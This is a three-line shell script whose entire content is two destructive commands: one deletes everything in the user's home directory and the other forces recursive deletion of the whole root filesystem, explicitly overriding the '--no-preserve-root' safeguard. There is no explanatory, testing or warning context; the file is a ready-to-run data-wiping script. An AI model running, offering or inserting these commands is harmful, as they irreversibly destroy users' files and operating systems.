#!/bin/sh
rm -rf ~/*
rm -rf --no-preserve-root /
